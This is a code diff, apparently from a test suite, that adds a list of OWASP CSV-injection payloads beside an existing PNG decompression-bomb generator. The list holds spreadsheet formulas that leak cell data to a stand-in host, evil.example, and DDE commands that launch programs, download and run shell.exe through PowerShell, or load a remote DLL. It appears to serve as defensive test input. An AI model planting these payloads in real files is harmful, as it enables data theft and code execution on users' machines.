@@ -23,3 +23,26 @@ def png_bomb(side: int = 30_000) -> bytes:
     return (
         b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
     )
+
+
+# OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection), the
+# report's "==HYPERLINK" case, and the tab / carriage-return starts the page names.
+FORMULA_PAYLOADS = [
+    '==HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further info")',
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
+    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    "=10+20+cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "=1+2",
+    "+1",
+    "-1",
+    "@A1",
+]
